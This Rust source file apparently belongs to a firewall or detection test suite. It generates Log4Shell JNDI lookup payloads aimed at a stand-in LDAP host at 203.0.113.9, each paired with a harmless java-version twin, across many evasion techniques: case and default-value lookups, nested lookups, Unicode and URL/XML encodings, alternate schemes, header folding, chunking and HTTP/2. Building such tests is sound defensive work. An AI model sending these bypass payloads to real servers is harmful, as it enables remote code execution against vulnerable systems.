//! Lookups of Log4j. The twin of `jndi` is `java`, which tells the version of Java.

use crate::delivery::Delivery;
use crate::encode;
use crate::request::{Place, Request};
use crate::{Case, Item};

/// A word in four letters, and what is looked up by it.
struct Word {
    letters: [&'static str; 4],
    key: &'static str,
}

const ATTACK: Word = Word {
    letters: ["j", "n", "d", "i"],
    key: "ldap://203.0.113.9:1389/a",
};
const TWIN: Word = Word {
    letters: ["j", "a", "v", "a"],
    key: "version",
};

/// Four letters and a key, dressed up.
type Disguise = fn([&str; 4], &str) -> String;

fn plain([a, b, c, d]: [&str; 4], key: &str) -> String {
    format!("${{{a}{b}{c}{d}:{key}}}")
}

fn dress(disguise: Disguise, word: &Word) -> String {
    disguise(word.letters, word.key)
}

fn everywhere(disguises: &[Disguise]) -> Vec<Case> {
    at(&Place::ALL, disguises)
}

fn at(places: &[Place], disguises: &[Disguise]) -> Vec<Case> {
    let case = |place: Place, disguise: Disguise| {
        Case::new(
            Request::holding(place, &dress(disguise, &ATTACK)),
            Request::holding(place, &dress(disguise, &TWIN)),
        )
    };
    places
        .iter()
        .flat_map(|&place| disguises.iter().map(move |&d| case(place, d)))
        .collect()
}

/// Both texts put into a request by `make`.
fn both(make: impl Fn(&str) -> Request) -> Case {
    Case::new(make(&dress(plain, &ATTACK)), make(&dress(plain, &TWIN)))
}

pub fn items() -> Vec<Item> {
    vec![
        ("G01 places", everywhere(&[plain])),
        (
            "G02 lower",
            everywhere(&[
                |[a, b, c, d], k| format!("${{${{lower:{a}}}{b}{c}{d}:{k}}}"),
                |[a, b, c, d], k| format!("${{{a}${{lower:{b}{c}}}{d}:{k}}}"),
            ]),
        ),
        (
            "G03 upper",
            everywhere(&[|[a, b, c, d], k| format!("${{${{upper:{a}}}${{upper:{b}}}{c}{d}:{k}}}")]),
        ),
        (
            "G04 defaults",
            everywhere(&[|[a, b, c, d], k| {
                format!("${{${{::-{a}}}${{::-{b}}}${{::-{c}}}${{::-{d}}}:{k}}}")
            }]),
        ),
        (
            "G05 environment",
            everywhere(&[|[a, b, c, d], k| {
                format!("${{${{env:NaN:-{a}}}{b}{c}{d}${{env:NaN:-:}}{k}}}")
            }]),
        ),
        (
            "G06 system properties",
            everywhere(&[|[a, b, c, d], k| format!("${{${{sys:x:-{a}}}{b}{c}{d}:{k}}}")]),
        ),
        (
            "G07 dates",
            everywhere(&[|[a, b, c, d], k| {
                format!("${{${{date:'{a}'}}${{date:'{b}'}}{c}{d}:{k}}}")
            }]),
        ),
        (
            "G08 other lookups",
            everywhere(&[
                |[a, b, c, d], k| format!("${{{a}${{k8s:k5:-{b}{c}}}{d}:{k}}}"),
                |[a, b, c, d], k| format!("${{${{main:x:-{a}}}{b}{c}{d}:{k}}}"),
            ]),
        ),
        ("G09 dotless i", dotless()),
        (
            "G10 three deep",
            everywhere(&[
                |[a, b, c, d], k| format!("${{${{lower:${{upper:${{lower:{a}}}}}}}{b}{c}{d}:{k}}}"),
                |[a, b, c, d], k| format!("${{${{::-${{env:x:-${{sys:y:-{a}{b}}}}}}}{c}{d}:{k}}}"),
            ]),
        ),
        ("G11 encodings", encodings()),
        ("G12 schemes", schemes()),
        (
            "G13 case and blanks",
            everywhere(&[
                |[a, b, c, d], k| {
                    format!("${{{}{b}{}{d}:{k}}}", a.to_uppercase(), c.to_uppercase())
                },
                |[a, b, c, d], k| format!("${{\t{a}{b}{c}{d} :{k}}}"),
                |[a, b, c, d], k| format!("${{{a}{b}{c}{d}:${{lower:{}}}{}}}", &k[..1], &k[1..]),
            ]),
        ),
        ("G14 deliveries", deliveries()),
        ("G15 HTTP/2", http2()),
    ]
}

fn dotless() -> Vec<Case> {
    let texts = ["\u{131}", "\u{130}", "${upper:\u{131}}", "${lower:\u{130}}"];
    let places = [Place::Target, Place::UserAgent, Place::Form, Place::Json];
    let case = |place, i: &str| {
        Case::new(
            Request::holding(place, &format!("${{jnd{i}:ldap://203.0.113.9/a}}")),
            Request::holding(place, &format!("${{ma{i}n:args}}")),
        )
    };
    places
        .iter()
        .flat_map(|&place| texts.iter().map(move |i| case(place, i)))
        .collect()
}

fn encodings() -> Vec<Case> {
    let target = |text: String| Request::get(format!("/find?q={text}"));
    let form =
        |text: String| Request::post("application/x-www-form-urlencoded", format!("q={text}"));
    let json = |text: String| Request::post("application/json", format!("{{\"q\":\"{text}\"}}"));
    let xml = |text: String| Request::xml(format!("<q a=\"1\">{text}</q>"));
    let signs =
        |text: &str, dollar: &str, brace: &str| text.replace('$', dollar).replace('{', brace);
    let mut cases = Vec::new();
    for make in [&target as &dyn Fn(String) -> Request, &form] {
        for (dollar, brace) in [
            ("$", "%7B"),
            ("%24", "%7b"),
            ("%2524", "%257b"),
            ("%u0024", "%u007b"),
        ] {
            cases.push(both(|text| make(signs(text, dollar, brace))));
        }
        cases.push(both(|text| make(encode::percent(text))));
        cases.push(both(|text| make(encode::percent(&encode::percent(text)))));
        cases.push(both(|text| {
            make(encode::percent(&encode::percent(&encode::percent(text))))
        }));
    }
    cases.push(both(|text| json(signs(text, "\\u0024", "\\u007b"))));
    cases.push(both(|text| json(encode::unicode_escapes(text))));
    cases.push(both(|text| json(signs(text, "\\x24", "\\x7b"))));
    cases.push(both(|text| xml(signs(text, "&#36;", "&#123;"))));
    cases.push(both(|text| xml(encode::references(text))));
    cases.push(both(|text| xml(encode::hex_references(text))));
    cases.push(both(|text| xml(signs(text, "&#x0024;", "&#x007B;"))));
    cases
}

fn schemes() -> Vec<Case> {
    let keys = [
        "rmi://203.0.113.9/a",
        "dns://203.0.113.9/a",
        "iiop://203.0.113.9/a",
        "nis://203.0.113.9/a",
        "nds://203.0.113.9/a",
        "corba://203.0.113.9/a",
        "ldaps://203.0.113.9/a",
        "http://203.0.113.9/a",
        "ldap:${:-//}203.0.113.9/a",
    ];
    let case = |place, key: &str| {
        Case::new(
            Request::holding(place, &plain(ATTACK.letters, key)),
            Request::holding(place, &format!("{key} is what ${{java:version}} knows")),
        )
    };
    [Place::Target, Place::UserAgent, Place::Json]
        .iter()
        .flat_map(|&place| keys.iter().map(move |key| case(place, key)))
        .collect()
}

fn deliveries() -> Vec<Case> {
    let folded: fn(&str) -> Request =
        |text| Request::get("/").with("X-Api-Version", format!("1,\r\n {text}"));
    let mut cases = vec![both(folded)];
    let ways = [
        Delivery::Cut(12),
        Delivery::Cut(20),
        Delivery::Cut(34),
        Delivery::BytePerSegment,
    ];
    for place in Place::ALL {
        for delivery in ways {
            let case = both(|text| Request::holding(place, text));
            cases.push(Case { delivery, ..case });
        }
    }
    for place in [Place::Form, Place::Json, Place::MultipartName] {
        for delivery in [Delivery::Chunks(1), Delivery::Chunks(7), Delivery::GzipBody] {
            let case = both(|text| Request::holding(place, text));
            cases.push(Case { delivery, ..case });
        }
    }
    cases
}

fn http2() -> Vec<Case> {
    let places = [Place::UserAgent, Place::XApi, Place::Cookie, Place::Target];
    let case = |&place: &Place| Case {
        delivery: Delivery::Http2,
        ..both(|text| Request::holding(place, text))
    };
    places.iter().map(case).collect()
}
